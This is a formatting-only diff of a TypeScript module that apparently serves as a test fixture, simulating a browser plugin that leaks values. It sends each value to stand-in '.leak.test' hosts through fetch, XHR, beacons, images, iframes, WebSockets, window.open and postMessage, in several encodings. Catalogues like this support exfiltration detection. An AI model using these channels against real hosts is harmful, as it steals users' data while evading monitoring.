@@ -1,7 +1,19 @@
 // What a plugin would do that tells others what it sees. Runs in the page; every leak goes to a host of its own, `<value>.<way>.<encoding>.leak.test`.
 
 export const LEAKS = {
-  ways: ['fetch-url', 'fetch-body', 'fetch-header', 'xhr', 'beacon', 'image', 'iframe', 'socket', 'frame', 'open', 'message'],
+  ways: [
+    'fetch-url',
+    'fetch-body',
+    'fetch-header',
+    'xhr',
+    'beacon',
+    'image',
+    'iframe',
+    'socket',
+    'frame',
+    'open',
+    'message',
+  ],
   encodings: ['plain', 'upper', 'hex', 'base64', 'base64url', 'percent', 'escapes', 'wide'],
 } as const
 
@@ -14,8 +26,16 @@ export async function leak(values: readonly string[]): Promise<void> {
     hex: (text) => bytes(text).map(hex).join(''),
     base64: (text) => btoa(`id=${text}`),
     base64url: (text) => btoa(text).replaceAll('+', '-').replaceAll('/', '_').replace(/=+$/, ''),
-    percent: (text) => encodeURIComponent(bytes(text).map((byte) => `%${hex(byte)}`).join('')),
-    escapes: (text) => bytes(text).map((byte) => `\\u00${hex(byte)}`).join(''),
+    percent: (text) =>
+      encodeURIComponent(
+        bytes(text)
+          .map((byte) => `%${hex(byte)}`)
+          .join(''),
+      ),
+    escapes: (text) =>
+      bytes(text)
+        .map((byte) => `\\u00${hex(byte)}`)
+        .join(''),
     wide: (text) => btoa([...text].map((letter) => `${letter}\0`).join('')),
   }
   const put = (tag: 'img' | 'iframe', src: string): void => {
@@ -25,7 +45,8 @@ export async function leak(values: readonly string[]): Promise<void> {
   }
   const ways: Readonly<Record<string, (url: string, text: string) => unknown>> = {
     'fetch-url': (url, text) => fetch(`${url}?q=${encodeURIComponent(text)}`, { mode: 'no-cors' }),
-    'fetch-body': (url, text) => fetch(url, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ text }) }),
+    'fetch-body': (url, text) =>
+      fetch(url, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ text }) }),
     'fetch-header': (url, text) => fetch(url, { headers: { 'x-text': text } }),
     xhr(url, text) {
       const request = new XMLHttpRequest()
@@ -35,18 +56,22 @@ export async function leak(values: readonly string[]): Promise<void> {
     beacon: (url, text) => navigator.sendBeacon(url, text),
     image: (url, text) => put('img', `${url}?${encodeURIComponent(text)}`),
     iframe: (url, text) => put('iframe', `${url}?${encodeURIComponent(text)}`),
-    socket: (url, text) => new WebSocket(`${url.replace('https', 'wss')}?${encodeURIComponent(text)}`).close(),
+    socket: (url, text) =>
+      new WebSocket(`${url.replace('https', 'wss')}?${encodeURIComponent(text)}`).close(),
     frame: (url, text) => new WebSocket(url.replace('https', 'wss')).send(text),
     open: (url, text) => window.open(`${url}?${encodeURIComponent(text)}`),
     message: (url, text) => window.open(url)?.postMessage({ text }, '*'),
   }
-  for (const [index, value] of values.entries()) for (const [encoding, encode] of Object.entries(encodings)) {
-    await Promise.all(Object.entries(ways).map(async ([way, act]) => {
-      try {
-        await act(`https://${index}.${way}.${encoding}.leak.test/`, encode(value))
-      } catch {
-        // A socket is not open yet, a host answers nothing: it was asked all the same.
-      }
-    }))
-  }
+  for (const [index, value] of values.entries())
+    for (const [encoding, encode] of Object.entries(encodings)) {
+      await Promise.all(
+        Object.entries(ways).map(async ([way, act]) => {
+          try {
+            await act(`https://${index}.${way}.${encoding}.leak.test/`, encode(value))
+          } catch {
+            // A socket is not open yet, a host answers nothing: it was asked all the same.
+          }
+        }),
+      )
+    }
 }
